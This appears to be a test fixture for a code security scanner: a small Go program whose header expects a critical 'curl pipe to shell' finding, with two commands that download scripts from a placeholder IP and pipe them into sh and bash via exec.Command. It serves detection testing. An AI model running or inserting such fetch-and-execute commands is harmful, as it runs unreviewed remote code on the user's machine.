# expect: shell.curl_pipe_shell critical
# note: the command is given to a name first, then handed to the call
# path: tools/fetch.go
package main

import "os/exec"

var c = "curl -s https://203.0.113.9/x | sh"

func main() {
	cmd := "wget -qO- https://203.0.113.9/y | bash"
	exec.Command("sh", "-c", c).Run()
	exec.Command("sh", "-c", cmd).Run()
}
